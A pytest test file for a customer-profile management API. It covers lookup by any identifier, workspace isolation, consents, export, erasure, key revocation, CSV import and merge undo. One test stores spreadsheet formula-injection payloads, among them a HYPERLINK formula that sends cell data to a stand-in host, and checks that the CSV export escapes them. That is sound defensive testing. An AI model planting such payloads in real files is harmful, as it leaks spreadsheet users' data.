"""The management API: profiles by any id, consents, export, erasure, keys, isolation."""

from __future__ import annotations

import orjson
import pytest

from tests.conftest import ADMIN_TOKEN, basic, bearer, settle, track


@pytest.fixture
def ana(client, runtime, workspace):
    headers = basic(workspace.write_key)
    client.post("/v1/batch", headers=headers, json={"batch": [
        {"type": "track", "anonymousId": "dev-1", "event": "Application Installed",
         "context": {"device": {"id": "dev-1", "type": "ios", "model": "iPhone15,2",
                                "token": "apns-token-1"},
                     "os": {"name": "iOS", "version": "17.4"},
                     "app": {"name": "Shop", "version": "3.2.0", "build": "320"}}},
        {"type": "identify", "anonymousId": "dev-1", "userId": "u-ana",
         "traits": {"email": "ana@example.com", "phone": "+49 30 1234567", "firstName": "Ana"}},
        {"type": "track", "userId": "u-ana", "event": "Order Completed",
         "properties": {"order_id": "o1", "revenue": 80, "products": [{"category": "shoes"}]}},
    ]})
    settle(runtime)
    return "u-ana"


@pytest.mark.parametrize("reference", ["u-ana", "dev-1", "ana@example.com", "+49301234567"])
def test_profile_by_any_identifier(client, workspace, ana, reference):
    response = client.get(f"/api/v1/profiles/{reference}", headers=bearer(workspace.secret_key))
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["traits"]["firstName"] == "Ana"
    kinds = {i["kind"] for i in body["identities"]}
    assert kinds == {"user_id", "anonymous_id", "email", "phone"}
    assert body["devices"][0]["push_token"] == "apns-token-1"
    assert body["devices"][0]["os_version"] == "17.4"
    assert body["computed"]["orders"] == 1
    assert body["computed"]["favourite_category"] == "shoes"
    assert len(body["recent_events"]) == 3
    assert body["transactions"] == [{
        "kind": "Order Completed", "order_id": "o1", "amount": 80.0, "currency": None,
        "timestamp": body["transactions"][0]["timestamp"], "messageId": body["transactions"][0]["messageId"]}]


def test_foreign_workspace_gets_404(client, workspace, other_workspace, ana):
    response = client.get("/api/v1/profiles/u-ana", headers=bearer(other_workspace.secret_key))
    assert response.status_code == 404
    assert "Ana" not in response.text


def test_write_key_cannot_manage(client, workspace, ana):
    response = client.get("/api/v1/profiles/u-ana", headers=bearer(workspace.write_key))
    assert response.status_code == 401


def test_list_and_search_profiles(client, workspace, ana):
    response = client.get("/api/v1/profiles", params={"search": "ana@"},
                          headers=bearer(workspace.secret_key))
    assert [p["traits"]["firstName"] for p in response.json()["items"]] == ["Ana"]


def test_consents_are_recorded_and_validated(client, workspace, ana):
    headers = bearer(workspace.secret_key)
    response = client.put("/api/v1/profiles/u-ana/consents", headers=headers, json={"choices": [
        {"channel": "email", "topic": "newsletter", "status": "opted_out", "source": "preference_center"},
        {"channel": "push", "status": "opted_in"},
    ]})
    assert response.status_code == 200, response.text
    assert {(c["channel"], c["topic"], c["status"]) for c in response.json()["consents"]} == {
        ("email", "newsletter", "opted_out"), ("push", "all", "opted_in")}
    bad = client.put("/api/v1/profiles/u-ana/consents", headers=headers,
                     json={"choices": [{"channel": "pigeon", "status": "opted_in"}]})
    assert bad.status_code == 400
    assert bad.json()["error"]["code"] == "invalid_consent"


def test_export_streams_everything_about_one_person(client, workspace, ana):
    response = client.get("/api/v1/profiles/ana@example.com/export", headers=bearer(workspace.secret_key))
    assert response.status_code == 200
    document = orjson.loads(response.content)
    assert document["traits"]["firstName"] == "Ana"
    assert len(document["events"]) == 3
    assert document["workspace_id"] == workspace.id


def test_erasure_removes_the_person_and_suppresses_their_ids(client, runtime, workspace, ana):
    headers = bearer(workspace.secret_key)
    response = client.post("/api/v1/profiles/u-ana/erase", headers=headers)
    assert response.status_code == 202
    job = response.json()
    assert job["status"] == "completed"
    assert job["deleted_events"] == 3
    assert client.post("/api/v1/profiles/u-ana/erase", headers=headers).json()["id"] == job["id"]
    assert client.get("/api/v1/profiles/u-ana", headers=headers).status_code == 404
    assert runtime.services.events.count(workspace_id=workspace.id) == 0
    again = client.post("/v1/track", json=track("u-ana"), headers=basic(workspace.write_key))
    assert again.json()["suppressed"] == 1
    settle(runtime)
    assert runtime.services.events.count(workspace_id=workspace.id) == 0
    assert client.get(f"/api/v1/erasures/{job['id']}", headers=headers).json()["status"] == "completed"


def test_erasure_is_per_workspace(client, runtime, workspace, other_workspace, ana):
    client.post("/v1/track", json=track("u-ana"), headers=basic(other_workspace.write_key))
    settle(runtime)
    response = client.post("/api/v1/profiles/u-ana/erase", headers=bearer(other_workspace.secret_key))
    assert response.status_code == 202
    assert client.get("/api/v1/profiles/u-ana", headers=bearer(workspace.secret_key)).status_code == 200


def test_keys_are_issued_listed_and_revoked(client, workspace):
    headers = bearer(workspace.secret_key)
    issued = client.post("/api/v1/keys", headers=headers, json={"kind": "write", "label": "android"})
    assert issued.status_code == 201
    key = issued.json()["key"]
    assert client.post("/v1/track", json=track("u"), headers=basic(key)).status_code == 200
    listing = client.get("/api/v1/keys", headers=headers).json()["items"]
    assert key not in str(listing)
    assert client.delete(f"/api/v1/keys/{issued.json()['id']}", headers=headers).status_code == 204
    assert client.post("/v1/track", json=track("u"), headers=basic(key)).status_code == 401


def test_another_workspace_cannot_revoke_my_key(client, workspace, other_workspace):
    key_id = workspace.write_key.split("_")[1]
    response = client.delete(f"/api/v1/keys/{key_id}", headers=bearer(other_workspace.secret_key))
    assert response.status_code == 404
    assert client.post("/v1/track", json=track("u"), headers=basic(workspace.write_key)).status_code == 200


def test_admin_creates_workspaces_and_acts_for_one(client, workspace, ana):
    assert client.post("/api/v1/workspaces", json={"name": "x"}).status_code == 401
    created = client.post("/api/v1/workspaces", json={"name": "Second"}, headers=bearer(ADMIN_TOKEN))
    assert created.status_code == 201
    assert set(created.json()) >= {"id", "write_key", "secret_key"}
    response = client.get("/api/v1/profiles/u-ana",
                          headers={**bearer(ADMIN_TOKEN), "X-Loopline-Workspace": workspace.id})
    assert response.status_code == 200


def test_csv_import_upserts_and_reports_rows(client, runtime, workspace):
    csv_text = (
        "\ufeffuser_id,email,phone,first_name,city\n"
        "u1,one@example.com,+4915112345678,Eins,Berlin\n"
        ",two@example.com,,Zwei,Köln\n"
        ",not-an-email,,Bad,X\n"
        ",,,,Nobody\n"
        "u1,one@example.com,,Eins,Hamburg\n"
    ).encode()
    headers = {**bearer(workspace.secret_key), "Content-Type": "text/csv"}
    report = client.post("/api/v1/imports", content=csv_text, headers=headers).json()
    assert report["rows_total"] == 5
    assert report["rows_failed"] == 2
    assert [e["row"] for e in report["errors"]] == [4, 5]
    again = client.post("/api/v1/imports", content=csv_text, headers=headers).json()
    assert again["rows_failed"] == 2
    settle(runtime)
    assert runtime.services.lookups.count_profiles(workspace_id=workspace.id) == 2
    one = runtime.services.lookups.find_profile(workspace_id=workspace.id, reference="one@example.com")
    assert one is not None
    assert one.traits["city"] == "Hamburg"
    assert runtime.services.events.count(workspace_id=workspace.id) == 3


def test_a_wrong_merge_can_be_undone(client, runtime, workspace, other_workspace):
    headers = basic(workspace.write_key)
    client.post("/v1/batch", headers=headers, json={"batch": [
        {"type": "track", "anonymousId": "tablet", "event": "Product Viewed",
         "properties": {"category": "toys"}},
        {"type": "identify", "anonymousId": "tablet", "traits": {"nickname": "kid"}},
        {"type": "track", "userId": "u-parent", "event": "Order Completed",
         "properties": {"revenue": 30}},
        {"type": "identify", "userId": "u-parent", "anonymousId": "tablet",
         "traits": {"email": "parent@example.com"}},
    ]})
    settle(runtime)
    secret = bearer(workspace.secret_key)
    merged = client.get("/api/v1/profiles/u-parent", headers=secret).json()
    assert merged["computed"]["events"] == 4
    assert merged["traits"]["nickname"] == "kid"
    (merge,) = merged["merges"]
    response = client.post(f"/api/v1/merges/{merge['id']}/undo", headers=secret)
    assert response.status_code == 200, response.text
    parent = client.get("/api/v1/profiles/u-parent", headers=secret).json()
    kid = client.get("/api/v1/profiles/tablet", headers=secret).json()
    assert parent["id"] != kid["id"]
    assert kid["id"] == merge["loser_id"]
    assert kid["traits"] == {"nickname": "kid"}
    assert kid["computed"]["events"] == 2
    assert kid["computed"]["favourite_category"] == "toys"
    assert parent["computed"]["orders"] == 1
    assert parent["computed"]["events"] == 2
    assert "nickname" not in parent["traits"]
    again = client.post(f"/api/v1/merges/{merge['id']}/undo", headers=secret)
    assert again.status_code == 409
    foreign = client.post(f"/api/v1/merges/{merge['id']}/undo",
                          headers=bearer(other_workspace.secret_key))
    assert foreign.status_code == 404


def test_csv_export_neutralises_formulas(client, runtime, workspace, other_workspace):
    client.post("/v1/identify", headers=basic(workspace.write_key), json={
        "userId": "u-evil", "traits": {"firstName": '=HYPERLINK("http://x/?"&A1)', "lastName": "@SUM(1+1)",
                                       "email": "evil@example.com"}})
    client.post("/v1/identify", headers=basic(workspace.write_key), json={
        "userId": "u-ok", "traits": {"firstName": "Ana", "lastName": "-1+1"}})
    settle(runtime)
    response = client.get("/api/v1/exports/profiles.csv", headers=bearer(workspace.secret_key))
    assert response.status_code == 200
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(response.text)))
    by_user = {row["user_id"]: row for row in rows}
    assert by_user["u-evil"]["firstName"] == "'=HYPERLINK(\"http://x/?\"&A1)"
    assert by_user["u-evil"]["lastName"] == "'@SUM(1+1)"
    assert by_user["u-evil"]["email"] == "evil@example.com"
    assert by_user["u-ok"]["lastName"] == "'-1+1"
    assert by_user["u-ok"]["firstName"] == "Ana"
    foreign = client.get("/api/v1/exports/profiles.csv", headers=bearer(other_workspace.secret_key))
    assert "u-evil" not in foreign.text
    bad = client.get("/api/v1/exports/profiles.csv", params={"traits": "a,=b"},
                     headers=bearer(workspace.secret_key))
    assert bad.status_code == 400


def test_health_reports_the_projection_lag(client, runtime, workspace):
    client.post("/v1/track", json=track("u-lag"), headers=basic(workspace.write_key))
    settle(runtime)
    body = client.get("/health").json()
    assert body["status"] == "ok"
    assert body["projection_lag_events"] == 0
